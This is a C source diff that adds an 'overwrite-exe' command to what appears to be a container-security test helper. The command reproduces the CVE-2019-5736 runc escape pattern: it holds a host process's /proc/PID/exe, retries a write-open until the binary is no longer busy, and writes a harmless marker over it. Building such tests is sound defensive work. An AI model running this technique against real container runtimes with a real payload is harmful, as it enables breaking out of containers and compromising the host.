@@ -1030,6 +1030,42 @@ static int cmd_unix_self(int argc, char **argv)
     return ok("path=%s", argv[0]);
 }
 
+/*
+ * The CVE-2019-5736 pattern against a stand-in: hold /proc/PID/exe (O_PATH) of a host process
+ * running the runtime's binary, retry opening it for writing through /proc/self/fd/N while the
+ * kernel refuses (ETXTBSY: still executed), and write over it once it is not.
+ */
+static int cmd_overwrite_exe(int argc, char **argv)
+{
+    if (argc != 2)
+        return usage("usage: overwrite-exe PID SECONDS");
+    char path[64];
+    snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
+    int held = open(path, O_PATH | O_CLOEXEC);
+    if (held < 0)
+        return fail(errno, "step=hold");
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+    long refused = 0;
+    time_t deadline = time(NULL) + strtol(argv[1], NULL, 10);
+    for (;;) {
+        int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
+        if (fd >= 0) {
+            static const char marker[] = "overwritten\n";
+            ssize_t n = write(fd, marker, sizeof(marker) - 1);
+            close(fd);
+            if (n != (ssize_t)sizeof(marker) - 1)
+                return fail(errno, "step=write");
+            return ok("refused=%ld", refused);
+        }
+        if (errno != ETXTBSY)
+            return fail(errno, "step=open");
+        refused++;
+        if (time(NULL) > deadline)
+            return fail(ETXTBSY, "step=deadline");
+        usleep(10000);
+    }
+}
+
 /* finit_module(2) of the module file at PATH (a privileged container loading a module). */
 static int cmd_finit_module(int argc, char **argv)
 {
@@ -1167,6 +1203,7 @@ static const struct {
     {"unix-connect", cmd_unix_connect, "PATH [COUNT]"},
     {"unix-self", cmd_unix_self, "PATH"},
     {"finit-module", cmd_finit_module, "PATH"},
+    {"overwrite-exe", cmd_overwrite_exe, "PID SECONDS"},
     {"delete-module", cmd_delete_module, "NAME"},
 };
 
